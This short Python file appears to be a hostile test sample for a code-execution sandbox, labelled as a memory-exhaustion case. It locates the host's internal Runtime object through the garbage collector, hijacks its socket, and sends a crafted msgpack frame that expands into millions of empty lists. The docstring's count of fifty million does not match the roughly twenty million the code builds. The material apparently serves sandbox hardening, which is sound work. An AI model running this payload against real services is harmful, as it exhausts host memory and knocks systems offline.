# ruff: noqa
"""Answers with fifty million empty lists, of one byte each in the frame and 56 in memory.

class: exhaustion
"""

# %% double
import gc, struct, os

runtime = next(o for o in gc.get_objects() if type(o).__name__ == "Runtime")


def double(x):
    body = b"\x81\xa5value\xdd" + struct.pack(">I", 300) + (b"\xdc\xff\xff" + b"\x90" * 65535) * 300
    runtime.line.socket.setblocking(True)
    runtime.line.socket.sendall(struct.pack("<I", len(body)) + body)
    return 6
